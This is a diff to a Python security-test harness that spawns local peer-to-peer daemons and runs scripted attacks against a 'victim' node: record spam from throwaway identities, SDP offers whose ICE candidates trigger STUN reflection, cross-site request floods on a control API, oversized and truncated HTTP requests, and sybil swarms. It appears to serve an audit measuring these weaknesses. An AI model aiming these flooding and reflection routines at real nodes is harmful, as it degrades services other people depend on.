@@ -20,6 +20,10 @@ from __future__ import annotations
 import argparse
 import asyncio
 import contextlib
+import dataclasses
+import functools
+import importlib
+import importlib.util
 import json
 import os
 import random
@@ -28,7 +32,7 @@ import sys
 import tempfile
 import time
 import urllib.request
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Iterable
 from pathlib import Path
 from typing import Any
 
@@ -43,10 +47,66 @@ from liberation_node.core.ops import Op, create_op
 from liberation_node.core.records import NodeInfo, create_record
 from tests.daemon.harness import NETWORK, Daemon, converged
 from tests.daemon.hostile import LOOPBACK, Hostile, now_ms
-from tests.daemon.hostile import ops as ops_frame
-from tests.daemon.hostile import records as records_frame
 
 MiB = 2**20
+
+
+def tree_of(source: str | None) -> dict[str, Any]:
+    """Daemon arguments that run `source`'s code (None: this checkout's)."""
+    return {"env": {"PYTHONPATH": source}, "cwd": Path(source)} if source else {}
+
+
+class Wire:
+    """Frames as the victim's tree writes them. The attackers are this checkout's client,
+    but an older tree's OPS and RECORDS had no hop counts and its PONG no clock: against
+    it, those frames are encoded by its own frames module, loaded from its source."""
+
+    def __init__(self, source: str | None) -> None:
+        self.frames: Any = frames if source is None else _frames_of(source)
+        names = {f.name for f in dataclasses.fields(self.frames.Pong)}
+        self.hops = "clock" in names  # the format with hop counts and the clock
+        # The op format the tree writes (older ones know format 1 only).
+        self.op_format = int(importlib.import_module(
+            self.frames.__name__.rsplit(".", 1)[0] + ".ops").OP_FORMAT)
+
+    def ops(self, wires: Iterable[bytes]) -> bytes:
+        return self._encode(self.frames.Ops(False, tuple(
+            (w, frames.MAX_HOPS) if self.hops else w for w in wires)))
+
+    def records(self, wires: Iterable[bytes]) -> bytes:
+        if self.hops:
+            return self._encode(self.frames.Records(False, tuple(
+                (w, frames.MAX_HOPS) for w in wires)))
+        return self._encode(self.frames.Records(tuple(wires)))
+
+    def pong(self, nonce: int, clock: int) -> bytes:
+        return self._encode(self.frames.Pong(nonce, clock) if self.hops
+                            else self.frames.Pong(nonce))
+
+    def _encode(self, frame: Any) -> bytes:
+        return bytes(self.frames.encode(frame))
+
+
+def _frames_of(source: str) -> Any:
+    """`liberation_node.core.frames` of another tree, as a package of another name."""
+    name = "victim_tree"
+    package = Path(source) / "liberation_node"
+    if name not in sys.modules:
+        spec = importlib.util.spec_from_file_location(
+            name, package / "__init__.py", submodule_search_locations=[str(package)])
+        assert spec is not None and spec.loader is not None
+        module = importlib.util.module_from_spec(spec)
+        sys.modules[name] = module
+        spec.loader.exec_module(module)
+    return importlib.import_module(f"{name}.core.frames")
+
+
+WIRE = Wire(None)
+
+
+def hostile(**kw: Any) -> Hostile:
+    """A hostile peer that answers PING the way the victim's tree expects."""
+    return Hostile(pong=WIRE.pong, **kw)
 
 
 class Run:
@@ -54,12 +114,12 @@ class Run:
 
     def __init__(self, tmp: Path, source: str | None, name: str, *, nofile: int | None = None,
                  bootstrap_victim: list[str] | None = None) -> None:
-        env = {"PYTHONPATH": source} if source else {}
         prefix = ["prlimit", f"--nofile={nofile}:20000"] if nofile else []
+        self.tree = tree_of(source)  # the honest peer runs the victim's code too
         self.daemons: list[Daemon] = []
-        self.victim = self._start(tmp / f"{name}-victim", "victim", env=env, prefix=prefix,
-                                  cwd=Path(source) if source else None,
-                                  extra=["--health-interval", "1"],
+        self.victim = self._start(tmp / f"{name}-victim", "victim", prefix=prefix,
+                                  **self.tree, extra=["--health-interval", "1"]
+                                  if "--health-interval" in _run_options(source) else [],
                                   bootstrap=bootstrap_victim or [])
         self.honest: Daemon | None = None
         self.latency_ms = 0.0
@@ -72,14 +132,12 @@ class Run:
         return d.start(timeout=40)
 
     def add_honest(self, tmp: Path, name: str) -> Daemon:
-        self.honest = self._start(tmp / f"{name}-honest", "honest",
+        self.honest = self._start(tmp / f"{name}-honest", "honest", **self.tree,
                                   bootstrap=[self.victim.peer_url])
         return self.honest
 
     def rss(self) -> int:
-        assert self.victim.proc is not None
-        with open(f"/proc/{self.victim.proc.pid}/status") as f:
-            return int(next(x for x in f if x.startswith("VmRSS:")).split()[1]) * 1024
+        return _rss_of(self.victim)
 
     async def watch(self) -> None:
         """Poll the victim's health every 100 ms: the worst latency, and its own lag."""
@@ -155,9 +213,26 @@ def feed(who: Identity, count: int, size: int) -> list[Op]:
     now = now_ms() - 60_000
     for seq in range(1, count + 1):
         body = Register("h") if seq == 1 else Post("social", "x" * size, 1, None)
-        ops.append(create_op(who, network=NETWORK, seq=seq, prev=ops[-1].id if ops else None,
-                             timestamp=now + seq, body=body))
+        ops.append(create_op(who, network=NETWORK, format=WIRE.op_format, seq=seq,
+                             prev=ops[-1].id if ops else None, timestamp=now + seq,
+                             body=body))
     return ops
+
+
+def registers(count: int) -> list[bytes]:
+    """`count` feeds of one op each, from fresh identities (made before connecting: the
+    signing would keep the attacker from answering PING, and the victim would close it)."""
+    now = now_ms() - 60_000
+    return [create_op(Identity.from_seed(os.urandom(32)), network=NETWORK,
+                      format=WIRE.op_format, seq=1, prev=None, timestamp=now,
+                      body=Register("r")).wire
+            for _ in range(count)]
+
+
+async def _feeds(run: Run, x: Hostile, wires: list[bytes]) -> None:
+    """Give the victim these feeds."""
+    await x.send_all(WIRE.ops(wires[i:i + 100]) for i in range(0, len(wires), 100))
+    await until(lambda: run.victim.status()["authors"] >= len(wires), 60)
 
 
 # -- the attacks --------------------------------------------------------------------------
@@ -168,18 +243,19 @@ async def refs(tmp: Path, source: str | None) -> dict[str, Any]:
     try:
         run.add_honest(tmp, "refs")
         await until(run.honest_connected, 30)
-        x = await Hostile().connect(run.victim.peer_url)
+        x = await hostile().connect(run.victim.peer_url)
         ops = feed(x.identity, 20, 4000)
-        twin = create_op(x.identity, network=NETWORK, seq=20, prev=ops[18].id,
-                         timestamp=ops[19].timestamp, body=Post("social", "twin", 1, None))
+        twin = create_op(x.identity, network=NETWORK, format=WIRE.op_format, seq=20,
+                         prev=ops[18].id, timestamp=ops[19].timestamp,
+                         body=Post("social", "twin", 1, None))
         rng = random.Random(1)
         frontier = tuple(sorted((rng.randbytes(32), rng.randrange(1, 2**40))
                                 for _ in range(250)))
         record = create_record(x.identity, network=NETWORK, version=now_ms(), ttl_ms=600_000,
                                body=NodeInfo("big", "x", (), (), frontier))
-        await x.send_all([ops_frame(o.wire for o in ops[:10]),
-                          ops_frame(o.wire for o in ops[10:]),
-                          records_frame((record.wire,)), ops_frame((twin.wire,))])
+        await x.send_all([WIRE.ops(o.wire for o in ops[:10]),
+                          WIRE.ops(o.wire for o in ops[10:]),
+                          WIRE.records((record.wire,)), WIRE.ops((twin.wire,))])
         await until(lambda: run.victim.status()["ops"] >= 20, 20)
         await asyncio.sleep(1)
         before = run.rss()
@@ -209,13 +285,9 @@ async def sync(tmp: Path, source: str | None) -> dict[str, Any]:
     try:
         run.add_honest(tmp, "sync")
         await until(run.honest_connected, 30)
-        x = await Hostile().connect(run.victim.peer_url)
-        now = now_ms() - 60_000
-        wires = [create_op(Identity.from_seed(os.urandom(32)), network=NETWORK, seq=1,
-                           prev=None, timestamp=now, body=Register("r")).wire
-                 for _ in range(8000)]
-        await x.send_all(ops_frame(wires[i:i + 100]) for i in range(0, 8000, 100))
-        await until(lambda: run.victim.status()["authors"] >= 8000, 60)
+        wires = registers(8000)
+        x = await hostile().connect(run.victim.peer_url)
+        await _feeds(run, x, wires)
         await asyncio.sleep(2)
         before = run.rss()
         watcher = asyncio.create_task(run.watch())
@@ -351,21 +423,21 @@ async def sybils(tmp: Path, source: str | None) -> dict[str, Any]:
     bootstrap peers; then a misbehaving peer that comes straight back."""
     boot = []
     for i in range(2):
-        d = Daemon(tmp / f"sybil-boot{i}", name=f"boot{i}")
+        d = Daemon(tmp / f"sybil-boot{i}", name=f"boot{i}", **tree_of(source))
         boot.append(d.start(timeout=40))
     run = Run(tmp, source, "sybils", bootstrap_victim=[b.peer_url for b in boot])
     run.daemons.extend(boot)
     try:
         boot_ids = {b.status()["node_id"] for b in boot}
         await until(lambda: boot_ids <= {p["id"] for p in run.victim.status()["peers"]}, 30)
-        liar = await Hostile().connect(run.victim.peer_url)
+        liar = await hostile().connect(run.victim.peer_url)
         forged = bytearray(feed(Identity.from_seed(os.urandom(32)), 1, 10)[0].wire)
         forged[-1] ^= 1
-        await liar.send_all([ops_frame((bytes(forged),))] * 20)
+        await liar.send_all([WIRE.ops((bytes(forged),))] * 20)
         await asyncio.sleep(2)
         came_back = "refused"
         try:
-            again = await Hostile(identity=liar.identity).connect(run.victim.peer_url)
+            again = await hostile(identity=liar.identity).connect(run.victim.peer_url)
             await asyncio.sleep(2)
             came_back = again.closed_reason or ("gone" if again.gone else "kept")
             await again.close()
@@ -374,7 +446,7 @@ async def sybils(tmp: Path, source: str | None) -> dict[str, Any]:
         swarm = []
         for _ in range(10):
             with contextlib.suppress(Exception):
-                swarm.append(await Hostile(answer_pings=False).connect(run.victim.peer_url))
+                swarm.append(await hostile(answer_pings=False).connect(run.victim.peer_url))
 
         async def keep_alive() -> None:
             while True:
@@ -399,8 +471,8 @@ async def signals(tmp: Path, source: str | None) -> dict[str, Any]:
     """Finding 7: SIGNAL frames, ttl 8, 32 KB payloads, for nodes nobody knows."""
     run = Run(tmp, source, "signals")
     try:
-        watcher = await Hostile().connect(run.victim.peer_url)
-        x = await Hostile().connect(run.victim.peer_url)
+        watcher = await hostile().connect(run.victim.peer_url)
+        x = await hostile().connect(run.victim.peer_url)
         for i in range(19):
             x.send(Signal(os.urandom(32), os.urandom(32), i, 8, "x" * 32_000))
         await asyncio.sleep(3)
@@ -410,6 +482,171 @@ async def signals(tmp: Path, source: str | None) -> dict[str, Any]:
         for h in (watcher, x):
             await h.close()
         return result
+    finally:
+        run.close()
+
+
+async def reflect(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 7, first half: one offer with 32 candidates at chosen addresses (UDP ports
+    on loopback that swallow everything): how many STUN packets, to how many of them; and
+    whether candidates at multicast, broadcast, unspecified addresses or port 0 pass."""
+    run = Run(tmp, source, "reflect")
+    try:
+        sinks = []
+        for _ in range(32):
+            sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            sink.bind(("127.0.0.1", 0))
+            sink.setblocking(False)
+            sinks.append(sink)
+        (offer,) = await _sink_offers(1, 9)
+        packets = {}
+        status = await _offer_with(run, offer, [("127.0.0.1", s.getsockname()[1])
+                                                for s in sinks], "127.0.0.2")
+        deadline = time.monotonic() + 12
+        while time.monotonic() < deadline:
+            for sink in sinks:
+                with contextlib.suppress(BlockingIOError):
+                    while sink.recv(2048):
+                        port = sink.getsockname()[1]
+                        packets[port] = packets.get(port, 0) + 1
+            await asyncio.sleep(0.05)
+        for sink in sinks:
+            sink.close()
+        odd = {}
+        for i, (what, host, port) in enumerate([
+                ("multicast", "224.0.0.251", 5353), ("broadcast", "255.255.255.255", 9),
+                ("unspecified", "0.0.0.0", 9), ("port 0", "127.0.0.1", 0)]):
+            odd[what] = await _offer_with(run, offer, [(host, port)], f"127.0.0.{3 + i}")
+        return {"offer_candidates": 32, "offer_answered": status,
+                "stun_packets": sum(packets.values()), "destinations_probed": len(packets),
+                "odd_candidates_answer": odd}
+    finally:
+        run.close()
+
+
+async def _offer_with(run: Run, offer: dict[str, str], candidates: list[tuple[str, int]],
+                      source_ip: str) -> int:
+    """POST `offer` with its candidates replaced by `candidates`: the HTTP status."""
+    lines = [line for line in offer["sdp"].split("\r\n")
+             if not line.startswith(("a=candidate:", "a=end-of-candidates"))]
+    at = next(i for i, line in enumerate(lines) if line.startswith("a=ice-ufrag"))
+    lines[at:at] = [f"a=candidate:{i + 1} 1 udp {2130706431 - i} {host} {port} typ host"
+                    for i, (host, port) in enumerate(candidates)] + ["a=end-of-candidates"]
+    body = {"network": NETWORK, "from": id_to_text(os.urandom(32)),
+            "offer": {"type": "offer", "sdp": "\r\n".join(lines)}}
+    connector = aiohttp.TCPConnector(local_addr=(source_ip, 0), force_close=True)
+    async with aiohttp.ClientSession(connector=connector) as session:
+        try:
+            async with session.post(run.victim.peer_url, json=body,
+                                    timeout=aiohttp.ClientTimeout(total=40)) as reply:
+                await reply.read()
+                return reply.status
+        except (aiohttp.ClientError, TimeoutError):
+            return 0
+
+
+async def spam(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 5: 6,000 node.info records from fresh identities, 100 per frame: what the
+    victim keeps, what reaches its honest peer, and the memory both use."""
+    run = Run(tmp, source, "spam")
+    try:
+        honest = run.add_honest(tmp, "spam")
+        await until(run.honest_connected, 30)
+        await asyncio.sleep(2)
+        wires = [create_record(Identity.from_seed(os.urandom(32)), network=NETWORK,
+                               version=now_ms(), ttl_ms=24 * 3_600_000,
+                               body=NodeInfo(f"spam{i}", "x" * 40, (), (), ())).wire
+                 for i in range(6000)]
+        before, honest_before = run.rss(), _rss_of(honest)
+        watcher = asyncio.create_task(run.watch())
+        x = await hostile().connect(run.victim.peer_url)
+        sent = await x.send_all((WIRE.records(wires[i:i + 100])
+                                 for i in range(0, len(wires), 100)), pause_s=0.05)
+        await asyncio.sleep(15)
+        run.stop_watching()
+        await watcher
+        result = {"records_sent": len(wires), "frames_sent": sent,
+                  "victim_records": run.victim.status()["records"],
+                  "honest_records": honest.status()["records"],
+                  "rss_before_mb": before / MiB, "rss_after_mb": run.rss() / MiB,
+                  "honest_rss_before_mb": honest_before / MiB,
+                  "honest_rss_after_mb": _rss_of(honest) / MiB,
+                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
+        await x.close()
+        return {**result, **await _honest(run)}
+    finally:
+        run.close()
+
+
+def _rss_of(d: Daemon) -> int:
+    assert d.proc is not None
+    with open(f"/proc/{d.proc.pid}/status") as f:
+        return int(next(x for x in f if x.startswith("VmRSS:")).split()[1]) * 1024
+
+
+async def views(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 8: six parallel loads of GET /api/v1/views from a web page (an image tag: no
+    token, Sec-Fetch-Site cross-site) for 10 s, against a victim holding 8,000 ops."""
+    run = Run(tmp, source, "views")
+    try:
+        wires = registers(8000)
+        x = await hostile().connect(run.victim.peer_url)
+        await _feeds(run, x, wires)
+        await x.close()
+        await asyncio.sleep(2)
+        watcher = asyncio.create_task(run.watch())
+        url = run.victim.run["control_url"]
+        headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors",
+                   "Sec-Fetch-Dest": "image", "Referer": "https://evil.example/"}
+        statuses: dict[int, int] = {}
+        stop = time.monotonic() + 10
+
+        async def loader(session: aiohttp.ClientSession) -> None:
+            while time.monotonic() < stop:
+                async with session.get(url + "/api/v1/views", headers=headers) as reply:
+                    await reply.read()
+                    statuses[reply.status] = statuses.get(reply.status, 0) + 1
+
+        async with aiohttp.ClientSession() as session:
+            await asyncio.gather(*(loader(session) for _ in range(6)))
+        run.stop_watching()
+        await watcher
+        return {"ops": 8000, "answers": statuses,
+                "health_latency_max_ms": round(run.latency_ms),
+                "victim_loop_lag_max_ms": run.own_lag_ms}
+    finally:
+        run.close()
+
+
+async def logs(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 9: 200 requests with an oversized header and 200 uploads cut short, on the
+    peer port: the victim's log lines and tracebacks."""
+    run = Run(tmp, source, "logs")
+    try:
+        host, port = run.victim.peer_url.split("//")[1].split("/")[0].rsplit(":", 1)
+        lines_before = len(run.victim.read_log())
+        big = b"GET /v1/info HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20_000 + b"\r\n\r\n"
+        cut = (b"POST /v1/signal HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+               b"Content-Length: 9000\r\n\r\n{\"network\": ")
+
+        def send(data: bytes, i: int, read: bool) -> None:
+            with contextlib.suppress(OSError), socket.create_connection(
+                    (host, int(port)), source_address=(f"127.0.2.{2 + i % 200}", 0),
+                    timeout=5) as conn:
+                conn.sendall(data)
+                if read:
+                    conn.recv(100)
+
+        for i in range(200):
+            await asyncio.to_thread(send, big, i, True)
+        for i in range(200):
+            await asyncio.to_thread(send, cut, i, False)
+        await asyncio.sleep(3)
+        log = run.victim.read_log()[lines_before:]
+        return {"requests": 400, "log_lines": len(log),
+                "tracebacks": sum("Traceback" in line for line in log),
+                "error_lines": sum(" ERROR " in line for line in log),
+                "first_line": log[0][:160] if log else None}
     finally:
         run.close()
 
@@ -424,7 +661,20 @@ async def _honest(run: Run) -> dict[str, Any]:
 
 ATTACKS: dict[str, Callable[[Path, str | None], Awaitable[dict[str, Any]]]] = {
     "refs": refs, "sync": sync, "conns": connections, "ice": ice, "sybils": sybils,
-    "signals": signals}
+    "signals": signals, "reflect": reflect, "spam": spam, "views": views, "logs": logs}
+
+
+@functools.cache
+def _run_options(source: str | None) -> str:
+    """`liberation-node run --help` of the tree a victim runs: older trees lack some
+    options (e.g. --health-interval: their health is checked every 10 s, and they have
+    no /api/v1/health, so only the outside latency measures them)."""
+    import subprocess
+
+    out = subprocess.run([sys.executable, "-m", "liberation_node", "run", "--help"],
+                         capture_output=True, text=True, check=False, cwd=source or None,
+                         env={**os.environ, **({"PYTHONPATH": source} if source else {})})
+    return out.stdout
 
 
 def _code_of(source: str | None) -> str:
@@ -444,6 +694,8 @@ async def main() -> int:
     parser.add_argument("--only", default=",".join(ATTACKS), help="attacks, comma-separated")
     args = parser.parse_args()
     source = str(Path(args.source).resolve()) if args.source else None
+    global WIRE
+    WIRE = Wire(source)
     with tempfile.TemporaryDirectory() as tmp:
         for name in args.only.split(","):
             started = time.monotonic()
